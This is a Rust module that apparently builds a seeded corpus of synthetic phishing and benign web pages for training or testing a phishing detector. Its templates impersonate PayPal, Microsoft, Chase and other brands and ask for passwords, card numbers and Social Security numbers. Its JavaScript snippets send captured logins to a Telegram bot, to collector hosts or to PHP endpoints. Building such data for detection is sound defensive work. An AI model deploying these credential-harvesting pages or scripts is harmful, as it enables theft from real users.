//! Seeded page generators and the on-disk corpus format.
//!
//! Two generator families produce structurally different markup: a modern
//! template style and a "saved page" style with legacy layout tables,
//! uppercase tags, unquoted attributes, entities and browser save comments.

use std::fs;
use std::io;
use std::path::Path;

use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::pipeline::LabeledPage;
use crate::window::Label;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PageStyle {
    Modern,
    Saved,
}

const BRANDS: &[(&str, &str)] = &[
    ("PayPal", "paypal.com"),
    ("Microsoft", "microsoft.com"),
    ("Office 365", "office.com"),
    ("Apple", "apple.com"),
    ("Amazon", "amazon.com"),
    ("Netflix", "netflix.com"),
    ("Chase", "chase.com"),
    ("Wells Fargo", "wellsfargo.com"),
    ("DHL", "dhl.com"),
    ("Facebook", "facebook.com"),
    ("Instagram", "instagram.com"),
    ("Dropbox", "dropbox.com"),
    ("DocuSign", "docusign.com"),
    ("Coinbase", "coinbase.com"),
    ("USPS", "usps.com"),
];

const PHISH_HOST_WORDS: &[&str] = &[
    "secure", "verify", "account", "login", "update", "support", "billing", "auth", "signin", "service", "help",
    "confirm", "wallet", "recovery", "notice",
];
const FREE_HOSTS: &[&str] = &[
    "weeblysite.test", "web.app.test", "glitch.test", "000webhost.test", "firebaseapp.test", "netlify.test",
    "duckdns.test", "ngrok.test",
];
const TLDS: &[&str] = &["com", "net", "xyz", "top", "info", "online", "site", "live"];

const URGENCY: &[&str] = &[
    "Your account has been temporarily suspended due to unusual activity.",
    "Please verify your information within 24 hours to avoid permanent closure.",
    "We noticed a sign-in attempt from an unrecognized device.",
    "Your payment method has expired. Update your billing details to continue using your account.",
    "Action required: confirm your email address to restore full access.",
    "For your security, access to your account is limited until you verify your identity.",
    "We were unable to deliver your package. Confirm your address and pay the redelivery fee.",
    "Your mailbox storage is full. Sign in to upgrade and keep receiving messages.",
    "A shared document is waiting for you. Sign in with your email to view it.",
    "Unusual activity was detected on your card. Confirm your details to avoid restrictions.",
];
const PHISH_HEADINGS: &[&str] = &[
    "Sign in to {b}",
    "Verify your {b} account",
    "Confirm your identity",
    "{b} Security Check",
    "Account locked",
    "Update your billing information",
    "{b} Online Banking",
    "Track your shipment",
];
const PHISH_TITLES: &[&str] = &[
    "{b} - Sign In",
    "Log in to your {b} account",
    "{b} | Verify your identity",
    "Account Suspended - {b}",
    "{b} Login",
    "Sign in - {b} Secure",
];
const PHISH_FIELDS: &[(&str, &str, &str)] = &[
    ("email", "email", "Email or phone"),
    ("password", "password", "Password"),
    ("text", "username", "Username"),
    ("text", "cardnumber", "Card number"),
    ("text", "exp", "MM/YY"),
    ("password", "cvv", "CVV"),
    ("text", "ssn", "Social Security Number"),
    ("tel", "phone", "Phone number"),
    ("text", "dob", "Date of birth"),
    ("password", "pin", "PIN"),
];
const PHISH_ACTIONS: &[&str] = &[
    "next.php",
    "login.php",
    "verify.php",
    "post.php",
    "send.php",
    "https://{h}/gate.php",
    "https://{h}/res/mail.php",
    "#",
    "",
];
const HIDDEN_FIELDS: &[&str] =
    &["ip", "ua", "country", "redirect", "session", "step", "token", "browser", "os", "ref", "lang", "attempt"];
const PHISH_LINKS: &[&str] = &[
    "Forgot password?", "Create account", "Need help?", "Privacy", "Terms", "Legal", "Contact us", "Cookies",
    "Sign up", "Trouble signing in?",
];
const PHISH_SCRIPTS: &[&str] = &[
    "var tgToken = '{t}'; var chatId = '{c}'; $('#{f}').on('submit', function (e) { e.preventDefault(); var data = 'Email: ' + $('#email').val() + ' Pass: ' + $('#password').val(); $.post('https://api.telegram.org/bot' + tgToken + '/sendMessage', { chat_id: chatId, text: data }, function () { window.location.href = 'https://www.{d}/'; }); });",
    "document.getElementById('{f}').addEventListener('submit', function (e) { e.preventDefault(); var xhr = new XMLHttpRequest(); xhr.open('POST', 'next.php', true); xhr.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded'); xhr.send('u=' + encodeURIComponent(document.getElementById('email').value) + '&p=' + encodeURIComponent(document.getElementById('password').value)); setTimeout(function () { window.location.replace('https://www.{d}/signin'); }, 1500); });",
    "var attempts = 0; function validateLogin() { attempts++; if (attempts < 2) { document.getElementById('error').style.display = 'block'; document.getElementById('password').value = ''; return false; } fetch('post.php', { method: 'POST', body: new FormData(document.getElementById('{f}')) }).then(function () { location.href = 'https://www.{d}'; }); return false; }",
    "$(document).ready(function () { var email = window.location.hash.substr(1); if (email) { $('#email').val(atob(email)); } $('#password').on('input', function () { $('#submit').prop('disabled', $(this).val().length < 4); }); $.getJSON('https://ipapi.co/json/', function (r) { $('input[name=ip]').val(r.ip); $('input[name=country]').val(r.country_name); }); });",
    "var count = 0; $('#{f}').submit(function (event) { event.preventDefault(); count = count + 1; $.ajax({ dataType: 'JSON', url: 'https://{h}/res/mail.php', type: 'POST', data: { email: $('#email').val(), password: $('#password').val() }, success: function () { if (count >= 2) { window.location.replace('https://outlook.office.com'); } } }); });",
];
const ENABLE_SCRIPT: &str = "document.getElementById('{p}').addEventListener('input', function () { document.getElementById('{s}').disabled = this.value.length < 6; });";

const TOPICS: &[(&str, &[&str], &[&str])] = &[
    (
        "Recipes",
        &["Easy Weeknight Pasta", "Slow Cooker Chili", "Lemon Herb Chicken", "Classic Banana Bread", "Vegetable Stir Fry"],
        &[
            "Bring a large pot of salted water to a boil and cook the pasta until al dente.",
            "This recipe serves four and takes about thirty minutes from start to finish.",
            "Chop the onions and garlic while the oil heats in a heavy skillet.",
            "Leftovers keep well in the refrigerator for up to three days.",
            "Season generously with salt, pepper and a squeeze of fresh lemon.",
            "Readers often swap the cream for Greek yogurt to lighten the dish.",
            "Let the bread cool in the pan for ten minutes before slicing.",
            "Add the vegetables in order of cooking time, starting with the carrots.",
        ],
    ),
    (
        "Travel",
        &["A Weekend in Lisbon", "Hiking the Dolomites", "Kyoto on a Budget", "Road Trip Along the Coast", "Island Hopping Guide"],
        &[
            "The old town is best explored on foot early in the morning.",
            "Trains run every thirty minutes and the journey takes under an hour.",
            "We stayed in a small guesthouse run by a friendly local family.",
            "Pack layers because mountain weather changes quickly in the afternoon.",
            "Most museums offer free entry on the first Sunday of the month.",
            "The ferry schedule changes between the summer and winter seasons.",
            "Street food stalls near the market serve the best grilled fish in town.",
            "Book the sunset tour in advance during the busy summer months.",
        ],
    ),
    (
        "Technology",
        &["Release Notes 4.2", "Getting Started with the CLI", "Why We Rewrote Our Scheduler", "Benchmarking Storage Engines", "Changelog"],
        &[
            "This release improves startup time and reduces memory usage on large projects.",
            "Install the package with your system package manager or download a binary.",
            "The configuration file lives in your home directory and uses a simple format.",
            "We measured throughput on commodity hardware with default settings.",
            "Deprecated options will be removed in the next major version.",
            "Contributions are welcome; see the guide in the repository for details.",
            "The new scheduler handles thousands of concurrent tasks without blocking.",
            "Logs are rotated daily and compressed after seven days.",
        ],
    ),
    (
        "Local News",
        &["City Council Approves Park Renovation", "Farmers Market Returns", "School Board Meeting Recap", "New Bike Lanes Downtown", "Library Extends Hours"],
        &[
            "The council voted five to two in favor of the proposal on Tuesday evening.",
            "Construction is expected to begin next spring and last about eight months.",
            "Residents can share feedback at the public meeting next week.",
            "The market will be open every Saturday from eight until noon.",
            "Officials said the project is funded by a state grant and local donations.",
            "Parking will be limited on Main Street during the festival weekend.",
            "The library now stays open until nine on weekdays.",
            "Volunteers planted more than two hundred trees along the river trail.",
        ],
    ),
    (
        "University",
        &["Department of Physics", "Graduate Admissions", "Campus Events", "Research Highlights", "Student Services"],
        &[
            "Applications for the fall semester are due on the first of February.",
            "Our faculty conduct research in condensed matter, optics and astrophysics.",
            "The seminar series brings visiting scholars to campus every Thursday.",
            "Teaching assistantships are available to qualified graduate students.",
            "The writing center offers free consultations to all enrolled students.",
            "Lab safety training is required before accessing research facilities.",
            "Office hours are listed on each course page in the learning portal.",
            "The campus shuttle runs between the main quad and the research park.",
        ],
    ),
    (
        "Shop",
        &["Handmade Ceramic Mugs", "Trail Running Shoes", "Organic Cotton T-Shirt", "Wireless Headphones", "Cast Iron Skillet"],
        &[
            "Free shipping on orders over fifty dollars within the continental US.",
            "Each piece is made by hand, so slight variations in glaze are normal.",
            "Returns are accepted within thirty days of delivery in original condition.",
            "Customers rate this item four point seven out of five stars.",
            "Available in six colors and sizes from extra small to double extra large.",
            "Dishwasher safe, but hand washing will keep the finish looking new.",
            "The battery lasts up to thirty hours on a single charge.",
            "Pre-seasoned and ready to use on any stovetop or campfire.",
        ],
    ),
];

const BENIGN_WORDS: &[&str] = &[
    "river", "maple", "harbor", "summit", "pixel", "garden", "copper", "atlas", "meadow", "beacon", "cedar", "orbit",
    "willow", "granite", "lantern", "quartz",
];
const NAV: &[(&str, &str)] = &[
    ("Home", "/"),
    ("About", "/about"),
    ("Blog", "/blog"),
    ("Contact", "/contact"),
    ("Events", "/events"),
    ("Shop", "/shop"),
    ("Archive", "/archive"),
    ("FAQ", "/faq"),
    ("Careers", "/careers"),
];
const UI_SCRIPTS: &[&str] = &[
    "document.addEventListener('DOMContentLoaded', function () { var btn = document.getElementById('menu-toggle'); if (btn) { btn.addEventListener('click', function () { document.getElementById('nav').classList.toggle('open'); btn.setAttribute('aria-expanded', btn.getAttribute('aria-expanded') !== 'true'); }); } });",
    "window.dataLayer = window.dataLayer || []; function gtag() { dataLayer.push(arguments); } gtag('js', new Date()); gtag('config', 'G-{t}');",
    "document.addEventListener('DOMContentLoaded', function () { document.querySelectorAll('img[data-src]').forEach(function (img) { img.setAttribute('src', img.getAttribute('data-src')); }); });",
    "var slides = document.querySelectorAll('.slide'); var current = 0; setInterval(function () { slides[current].classList.remove('active'); current = (current + 1) % slides.length; slides[current].classList.add('active'); }, 5000);",
    "document.getElementById('year').textContent = new Date().getFullYear(); document.getElementById('consent').setAttribute('hidden', '');",
    "document.addEventListener('DOMContentLoaded', function () { var agree = document.getElementById('agree'); var send = document.getElementById('send'); agree.addEventListener('change', function () { if (agree.checked) { send.removeAttribute('disabled'); } else { send.setAttribute('disabled', ''); } }); });",
    "document.getElementById('send').setAttribute('disabled', ''); document.getElementById('comment').addEventListener('input', function () { document.getElementById('send').toggleAttribute('disabled', this.value.trim() === ''); });",
    "document.querySelectorAll('[data-tab]').forEach(function (tab) { tab.addEventListener('click', function () { document.getElementById(tab.getAttribute('data-tab')).setAttribute('aria-selected', 'true'); }); });",
];

fn pick<'a, T: ?Sized>(rng: &mut ChaCha8Rng, items: &'a [&'a T]) -> &'a T {
    items.choose(rng).copied().expect("non-empty list")
}

fn token(rng: &mut ChaCha8Rng, len: usize) -> String {
    const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..len).map(|_| ALNUM[rng.gen_range(0..ALNUM.len())] as char).collect()
}

fn fill(template: &str, vars: &[(&str, &str)]) -> String {
    vars.iter().fold(template.to_string(), |s, (k, v)| s.replace(&format!("{{{k}}}"), v))
}

struct Phish {
    brand: &'static str,
    brand_domain: &'static str,
    host: String,
    title: String,
    heading: String,
    urgency: Vec<&'static str>,
    form_id: String,
    action: String,
    fields: Vec<(&'static str, &'static str, &'static str)>,
    hidden: Vec<(String, String)>,
    disabled_submit: bool,
    /// The enabling script for a disabled submit ships as an external file.
    external_enabler: bool,
    script: Option<String>,
    links: Vec<&'static str>,
    footer: bool,
    hidden_frame: bool,
}

impl Phish {
    fn sample(rng: &mut ChaCha8Rng) -> Phish {
        let &(brand, brand_domain) = BRANDS.choose(rng).unwrap();
        let slug: String = brand.to_ascii_lowercase().chars().filter(|c| c.is_ascii_alphanumeric()).collect();
        let host = match rng.gen_range(0..3) {
            0 => format!("{}-{}-{}.{}", pick(rng, PHISH_HOST_WORDS), slug, pick(rng, PHISH_HOST_WORDS), pick(rng, TLDS)),
            1 => format!("{}{}.{}", slug, token(rng, 4), pick(rng, FREE_HOSTS)),
            _ => format!("{}-{}.{}", pick(rng, PHISH_HOST_WORDS), token(rng, 6), pick(rng, TLDS)),
        };
        let vars = [("b", brand)];
        let n_fields = rng.gen_range(1..=3);
        let mut fields = vec![PHISH_FIELDS[0], PHISH_FIELDS[1]];
        if rng.gen_bool(0.3) {
            fields[0] = PHISH_FIELDS[2];
        }
        for _ in 2..n_fields + 1 {
            fields.push(*PHISH_FIELDS[2..].choose(rng).unwrap());
        }
        fields.truncate(n_fields.max(2));
        let n_hidden = if rng.gen_bool(0.7) { rng.gen_range(2..=6) } else { 0 };
        let mut names: Vec<&str> = HIDDEN_FIELDS.to_vec();
        names.shuffle(rng);
        let hidden = names[..n_hidden].iter().map(|n| {
                let len = rng.gen_range(0..10);
                (n.to_string(), token(rng, len))
            }).collect();
        let form_id = ["login-form", "loginForm", "frm", "signin", "verify-form"].choose(rng).unwrap().to_string();
        let collector = format!("{}.{}", token(rng, 7), pick(rng, TLDS));
        let action = fill(pick(rng, PHISH_ACTIONS), &[("h", &collector)]);
        let script = rng.gen_bool(0.7).then(|| {
            fill(
                pick(rng, PHISH_SCRIPTS),
                &[
                    ("t", &format!("{}:{}", rng.gen_range(100_000_000u64..999_999_999), token(rng, 20))),
                    ("c", &rng.gen_range(10_000_000u64..99_999_999).to_string()),
                    ("f", &form_id),
                    ("d", brand_domain),
                    ("h", &collector),
                ],
            )
        });
        let mut urgency: Vec<&str> = URGENCY.to_vec();
        urgency.shuffle(rng);
        urgency.truncate(rng.gen_range(0..=2));
        let mut links: Vec<&str> = PHISH_LINKS.to_vec();
        links.shuffle(rng);
        links.truncate(rng.gen_range(0..=5));
        Phish {
            brand,
            brand_domain,
            host,
            title: fill(pick(rng, PHISH_TITLES), &vars),
            heading: fill(pick(rng, PHISH_HEADINGS), &vars),
            urgency,
            form_id,
            action,
            fields,
            hidden,
            disabled_submit: rng.gen_bool(0.55),
            external_enabler: rng.gen_bool(0.5),
            script,
            links,
            footer: rng.gen_bool(0.6),
            hidden_frame: rng.gen_bool(0.2),
        }
    }

    fn url(&self, rng: &mut ChaCha8Rng) -> String {
        let path = ["/", "/login", "/signin/index.html", "/verify/", "/secure/update.php", "/auth/"].choose(rng).unwrap();
        format!("https://{}{}", self.host, path)
    }

    fn field_id(name: &str) -> &str {
        match name {
            "email" | "username" => "email",
            "password" => "password",
            other => other,
        }
    }

    fn modern(&self, rng: &mut ChaCha8Rng) -> String {
        let mut h = String::from("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n");
        h += "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n";
        h += &format!("<title>{}</title>\n", self.title);
        h += "<style>body{font-family:Helvetica,Arial,sans-serif;background:#f3f2f1}.card{max-width:420px;margin:60px auto;background:#fff;padding:32px}.error{display:none;color:#c00}</style>\n";
        if self.script.as_deref().is_some_and(|s| s.contains('$')) {
            h += "<script src=\"https://code.jquery.com/jquery-3.6.0.min.js\"></script>\n";
        }
        h += "</head>\n<body>\n<div class=\"card\">\n";
        h += &format!("<img src=\"logo.png\" alt=\"{}\" width=\"120\">\n", self.brand);
        h += &format!("<h1>{}</h1>\n", self.heading);
        for u in &self.urgency {
            h += &format!("<p>{u}</p>\n");
        }
        h += "<p class=\"error\" id=\"error\">Your account or password is incorrect.</p>\n";
        h += &format!("<form id=\"{}\" action=\"{}\" method=\"post\">\n", self.form_id, self.action);
        for (ty, name, placeholder) in &self.fields {
            h += &format!(
                "<input type=\"{ty}\" name=\"{name}\" id=\"{}\" placeholder=\"{placeholder}\" required>\n",
                Self::field_id(name)
            );
        }
        for (name, value) in &self.hidden {
            h += &format!("<input type=\"hidden\" name=\"{name}\" value=\"{value}\">\n");
        }
        let label = ["Sign in", "Next", "Continue", "Verify", "Log In"].choose(rng).unwrap();
        if self.disabled_submit {
            h += &format!("<button type=\"submit\" id=\"submit\" disabled>{label}</button>\n");
        } else {
            h += &format!("<button type=\"submit\" id=\"submit\">{label}</button>\n");
        }
        h += "</form>\n";
        if !self.links.is_empty() {
            h += "<ul class=\"links\">\n";
            for l in &self.links {
                h += &format!("<li><a href=\"#\">{l}</a></li>\n");
            }
            h += "</ul>\n";
        }
        h += "</div>\n";
        if self.hidden_frame {
            h += &format!("<iframe src=\"https://{}/track\" style=\"display:none\"></iframe>\n", self.host);
        }
        if self.footer {
            h += &format!(
                "<footer><p>&copy; 2024 {}. All rights reserved.</p><a href=\"https://www.{}/privacy\">Privacy</a></footer>\n",
                self.brand, self.brand_domain
            );
        }
        if let Some(s) = &self.script {
            h += &format!("<script>{s}</script>\n");
        }
        if self.disabled_submit && self.external_enabler {
            h += "<script src=\"assets/js/validate.js\"></script>\n";
        } else if self.disabled_submit {
            h += &format!("<script>{}</script>\n", fill(ENABLE_SCRIPT, &[("p", "password"), ("s", "submit")]));
        }
        h += "</body>\n</html>\n";
        h
    }

    fn saved(&self, rng: &mut ChaCha8Rng, url: &str) -> String {
        let mut h = format!("<!-- saved from url=({:04}){} -->\n", url.len(), url);
        h += "<HTML><HEAD><META http-equiv=Content-Type content=\"text/html; charset=windows-1252\">\n";
        h += &format!("<TITLE>{}</TITLE>\n", self.title);
        h += "<LINK href=\"./files/style.css\" rel=stylesheet type=text/css>\n";
        h += "<STYLE type=text/css>.hide{display:none} TD{font-size:12px}</STYLE>\n";
        h += "<META content=\"MSHTML 11.00\" name=GENERATOR></HEAD>\n<BODY bgColor=#ffffff>\n";
        h += "<TABLE width=\"100%\" cellSpacing=0 cellPadding=0 border=0>\n<TBODY><TR><TD align=center>\n";
        h += &format!("<IMG src=\"./files/logo.gif\" alt=\"{}\"><BR>\n", self.brand);
        h += &format!("<H2>{}</H2>\n", self.heading);
        for u in &self.urgency {
            h += &format!("<P><FONT face=Arial color=#333333>{u}</FONT>\n");
        }
        h += &format!("<FORM name={} id={} action=\"{}\" method=post>\n", self.form_id, self.form_id, self.action);
        h += "<TABLE cellSpacing=2 cellPadding=2>\n";
        for (ty, name, placeholder) in &self.fields {
            h += &format!(
                "<TR><TD>{placeholder}:&nbsp;</TD><TD><INPUT type={ty} name={name} id={} size=30></TD></TR>\n",
                Self::field_id(name)
            );
        }
        h += "</TABLE>\n";
        for (name, value) in &self.hidden {
            h += &format!("<INPUT type=hidden name={name} value=\"{value}\">\n");
        }
        let label = ["Sign In", "Submit", "Continue", "Log On"].choose(rng).unwrap();
        if self.disabled_submit {
            h += &format!("<BUTTON type=submit id=submit disabled>{label}</BUTTON>\n");
        } else {
            h += &format!("<INPUT type=submit value=\"{label}\" id=submit>\n");
        }
        h += "</FORM>\n";
        for l in &self.links {
            h += &format!("<A href=\"#\">{l}</A> | \n");
        }
        h += "<DIV class=hide><P>Loading secure session&hellip;</P></DIV>\n";
        h += "</TD></TR></TBODY></TABLE>\n";
        if self.hidden_frame {
            h += &format!("<IFRAME src=\"https://{}/t.html\" width=0 height=0 hidden></IFRAME>\n", self.host);
        }
        if self.footer {
            h += &format!("<CENTER><FONT size=1>Copyright &copy; 1999-2024 {} Inc.</FONT></CENTER>\n", self.brand);
        }
        if let Some(s) = &self.script {
            h += &format!("<SCRIPT language=javascript>\n{s}\n</SCRIPT>\n");
        }
        if self.disabled_submit && self.external_enabler {
            h += "<SCRIPT src=\"./files/validate.js\"></SCRIPT>\n";
        } else if self.disabled_submit {
            h += &format!("<SCRIPT>{}</SCRIPT>\n", fill(ENABLE_SCRIPT, &[("p", "password"), ("s", "submit")]));
        }
        h += "</BODY></HTML>\n";
        h
    }
}

struct Benign {
    site: String,
    host: String,
    topic: usize,
    heading: &'static str,
    paragraphs: Vec<String>,
    nav: Vec<(&'static str, &'static str)>,
    scripts: Vec<String>,
    search: bool,
    newsletter: bool,
    login: Option<(&'static str, &'static str)>,
    footer: bool,
    hidden_note: bool,
}

impl Benign {
    fn sample(rng: &mut ChaCha8Rng) -> Benign {
        let topic = rng.gen_range(0..TOPICS.len());
        let (_, headings, sentences) = TOPICS[topic];
        let site = format!("{}{}", pick(rng, BENIGN_WORDS), pick(rng, BENIGN_WORDS));
        // a minority are genuine sign-in pages on the brand's own domain
        let login = rng.gen_bool(0.12).then(|| *BRANDS.choose(rng).unwrap());
        let host = match login {
            Some((_, domain)) => format!("www.{domain}"),
            None => format!("www.{site}.{}", ["com", "org", "net", "edu", "io"].choose(rng).unwrap()),
        };
        let n_par = if login.is_some() { rng.gen_range(0..=2) } else { rng.gen_range(3..=14) };
        let paragraphs = (0..n_par)
            .map(|_| {
                let k = rng.gen_range(1..=4);
                (0..k).map(|_| pick(rng, sentences)).collect::<Vec<_>>().join(" ")
            })
            .collect();
        let mut nav: Vec<(&str, &str)> = NAV.to_vec();
        nav.shuffle(rng);
        nav.truncate(rng.gen_range(2..=7));
        let n_scripts = rng.gen_range(0..=3);
        let scripts = (0..n_scripts).map(|_| fill(pick(rng, UI_SCRIPTS), &[("t", &token(rng, 8).to_uppercase())])).collect();
        Benign {
            site,
            host,
            topic,
            heading: pick(rng, headings),
            paragraphs,
            nav,
            scripts,
            search: rng.gen_bool(0.35),
            newsletter: rng.gen_bool(0.25),
            login,
            footer: rng.gen_bool(0.85),
            hidden_note: rng.gen_bool(0.25),
        }
    }

    fn url(&self, rng: &mut ChaCha8Rng) -> String {
        let slug = self.heading.to_ascii_lowercase().replace(' ', "-");
        match (self.login, rng.gen_range(0..3)) {
            (Some(_), _) => format!("https://{}/signin", self.host),
            (None, 0) => format!("https://{}/", self.host),
            (None, _) => format!("https://{}/{}/{}", self.host, TOPICS[self.topic].0.to_ascii_lowercase().replace(' ', "-"), slug),
        }
    }

    fn title(&self) -> String {
        match self.login {
            Some((brand, _)) => format!("Sign in | {brand}"),
            None => format!("{} - {}", self.heading, self.site),
        }
    }

    fn modern(&self, rng: &mut ChaCha8Rng) -> String {
        let mut h = String::from("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n");
        h += &format!("<title>{}</title>\n", self.title());
        h += &format!("<meta name=\"description\" content=\"{}\">\n", TOPICS[self.topic].0);
        h += "<link rel=\"stylesheet\" href=\"/assets/site.css\">\n<style>.visually-hidden{display:none}</style>\n</head>\n<body>\n";
        h += "<header>\n<button id=\"menu-toggle\" aria-expanded=\"false\">Menu</button>\n<nav id=\"nav\"><ul>\n";
        for (label, href) in &self.nav {
            h += &format!("<li><a href=\"{href}\">{label}</a></li>\n");
        }
        h += "</ul></nav>\n</header>\n<main>\n";
        h += &format!("<h1>{}</h1>\n", self.heading);
        if let Some((brand, domain)) = self.login {
            h += &format!("<p>Use your {brand} account to continue.</p>\n");
            h += "<form action=\"/session\" method=\"post\">\n";
            h += &format!("<input type=\"hidden\" name=\"authenticity_token\" value=\"{}\">\n", token(rng, 24));
            h += "<input type=\"email\" name=\"login\" placeholder=\"Email\">\n<input type=\"password\" name=\"password\" placeholder=\"Password\">\n";
            h += "<button type=\"submit\">Sign in</button>\n</form>\n";
            h += &format!("<p><a href=\"https://www.{domain}/password/reset\">Forgot your password?</a></p>\n");
        }
        for (i, p) in self.paragraphs.iter().enumerate() {
            if i > 0 && i % 4 == 0 {
                h += &format!("<h2>{}</h2>\n", pick(rng, TOPICS[self.topic].1));
            }
            h += &format!("<p>{p}</p>\n");
        }
        if self.paragraphs.len() > 5 {
            h += "<ul>\n";
            for s in TOPICS[self.topic].2.choose_multiple(rng, 3) {
                h += &format!("<li>{s}</li>\n");
            }
            h += "</ul>\n";
        }
        if self.search {
            h += "<form action=\"/search\" method=\"get\" role=\"search\"><input type=\"text\" name=\"q\" placeholder=\"Search\"><button type=\"submit\">Search</button></form>\n";
        }
        if self.newsletter {
            h += "<form action=\"/newsletter\" method=\"post\"><input type=\"email\" name=\"email\" placeholder=\"Your email\"><label><input type=\"checkbox\" id=\"agree\"> I agree</label><button type=\"submit\" id=\"send\" disabled>Subscribe</button></form>\n";
        }
        if self.hidden_note {
            h += "<div class=\"visually-hidden\"><p>Skip to content</p></div>\n";
        }
        h += "</main>\n";
        if self.footer {
            h += "<footer>\n";
            h += &format!("<p>&copy; <span id=\"year\">2024</span> {}</p>\n", self.site);
            for (label, href) in self.nav.iter().take(3) {
                h += &format!("<a href=\"{href}\">{label}</a>\n");
            }
            h += "</footer>\n";
        }
        for s in &self.scripts {
            h += &format!("<script>{s}</script>\n");
        }
        h += "</body>\n</html>\n";
        h
    }

    fn saved(&self, rng: &mut ChaCha8Rng, url: &str) -> String {
        let mut h = format!("<!-- saved from url=({:04}){} -->\n", url.len(), url);
        h += "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">\n";
        h += "<HTML><HEAD><META http-equiv=Content-Type content=\"text/html; charset=windows-1252\">\n";
        h += &format!("<TITLE>{}</TITLE>\n", self.title());
        h += "<LINK href=\"./files/main.css\" rel=stylesheet>\n</HEAD>\n<BODY leftMargin=0 topMargin=0>\n";
        h += "<TABLE width=\"100%\" border=0><TBODY><TR>\n<TD vAlign=top width=180>\n<UL>\n";
        for (label, href) in &self.nav {
            h += &format!("<LI><A href=\"{}{}\">{label}</A></LI>\n", url.split('/').take(3).collect::<Vec<_>>().join("/"), href);
        }
        h += "</UL></TD>\n<TD vAlign=top>\n";
        h += &format!("<H1>{}</H1>\n", self.heading);
        if let Some((brand, domain)) = self.login {
            h += &format!("<P>Please sign in to your {brand} account.\n");
            h += &format!("<FORM action=https://{}/session method=post>\n", self.host);
            h += "Email:&nbsp;<INPUT name=login size=25><BR>\nPassword:&nbsp;<INPUT type=password name=password size=25><BR>\n";
            h += &format!("<INPUT type=hidden name=csrf value={}>\n", token(rng, 16));
            h += "<INPUT type=submit value=\"Sign In\"></FORM>\n";
            h += &format!("<A href=\"https://www.{domain}/help\">Help</A>\n");
        }
        for p in &self.paragraphs {
            h += &format!("<P>{p}\n");
        }
        if self.search {
            h += "<FORM action=/cgi-bin/search method=get><INPUT name=q size=20> <INPUT type=submit value=Go></FORM>\n";
        }
        if self.hidden_note {
            h += "<DIV style=\"DISPLAY: none\">print version</DIV>\n";
        }
        h += "</TD></TR></TBODY></TABLE>\n";
        if self.footer {
            h += &format!(
                "<HR><CENTER><FONT size=1>&copy; {} {} &middot; <A href=\"/contact\">Contact</A></FONT></CENTER>\n",
                rng.gen_range(2003..2024),
                self.site
            );
        }
        for s in &self.scripts {
            h += &format!("<SCRIPT type=text/javascript>\n{s}\n</SCRIPT>\n");
        }
        h += "</BODY></HTML>\n";
        h
    }
}

/// One generated page.
pub fn generate_page(rng: &mut ChaCha8Rng, label: Label, style: PageStyle, id: String) -> LabeledPage {
    match label {
        Label::Phishing => {
            let p = Phish::sample(rng);
            let url = p.url(rng);
            let html = match style {
                PageStyle::Modern => p.modern(rng),
                PageStyle::Saved => p.saved(rng, &url),
            };
            LabeledPage::new(id, url, html, label)
        }
        Label::Benign => {
            let b = Benign::sample(rng);
            let url = b.url(rng);
            let html = match style {
                PageStyle::Modern => b.modern(rng),
                PageStyle::Saved => b.saved(rng, &url),
            };
            LabeledPage::new(id, url, html, label)
        }
    }
}

/// `phishing` + `benign` pages of one style, interleaved.
pub fn generate(phishing: usize, benign: usize, style: PageStyle, seed: u64) -> Vec<LabeledPage> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let prefix = match style {
        PageStyle::Modern => "syn",
        PageStyle::Saved => "saved",
    };
    let mut out = Vec::with_capacity(phishing + benign);
    for i in 0..phishing.max(benign) {
        if i < phishing {
            out.push(generate_page(&mut rng, Label::Phishing, style, format!("{prefix}-p{i:04}")));
        }
        if i < benign {
            out.push(generate_page(&mut rng, Label::Benign, style, format!("{prefix}-b{i:04}")));
        }
    }
    out
}

/// Half modern, half saved-style pages.
pub fn mixed_corpus(phishing: usize, benign: usize, seed: u64) -> Vec<LabeledPage> {
    let mut out = generate(phishing / 2, benign / 2, PageStyle::Modern, seed);
    out.extend(generate(phishing - phishing / 2, benign - benign / 2, PageStyle::Saved, seed ^ 0x5A5A_5A5A));
    out
}

/// The 100-document desk corpus: 50 modern and 50 saved-style pages.
pub fn desk_corpus(seed: u64) -> Vec<LabeledPage> {
    mixed_corpus(50, 50, seed)
}

#[derive(Debug, Serialize, Deserialize)]
struct ManifestEntry {
    id: String,
    url: String,
    label: Label,
    file: String,
}

pub const MANIFEST: &str = "manifest.jsonl";

/// Write pages as `<id>.html` files plus a `manifest.jsonl` index.
pub fn save_corpus(dir: &Path, pages: &[LabeledPage]) -> io::Result<()> {
    fs::create_dir_all(dir)?;
    let mut manifest = String::new();
    for p in pages {
        let file = format!("{}.html", p.id);
        fs::write(dir.join(&file), &p.html)?;
        let entry = ManifestEntry { id: p.id.clone(), url: p.url.clone(), label: p.label, file };
        manifest += &serde_json::to_string(&entry).map_err(io::Error::other)?;
        manifest.push('\n');
    }
    fs::write(dir.join(MANIFEST), manifest)
}

/// Read a corpus written by [`save_corpus`]. Page bytes are decoded
/// lossily; the pipeline re-sniffs charsets from the bytes it is given.
pub fn load_corpus(dir: &Path) -> io::Result<Vec<LabeledPage>> {
    let manifest = fs::read_to_string(dir.join(MANIFEST))?;
    manifest
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|line| {
            let e: ManifestEntry = serde_json::from_str(line).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
            let bytes = fs::read(dir.join(&e.file))?;
            Ok(LabeledPage::new(e.id, e.url, String::from_utf8_lossy(&bytes).into_owned(), e.label))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_seeded() {
        assert_eq!(desk_corpus(3), desk_corpus(3));
        assert_ne!(desk_corpus(3), desk_corpus(4));
    }

    #[test]
    fn desk_corpus_shape() {
        let c = desk_corpus(1);
        assert_eq!(c.len(), 100);
        assert_eq!(c.iter().filter(|p| p.label == Label::Phishing).count(), 50);
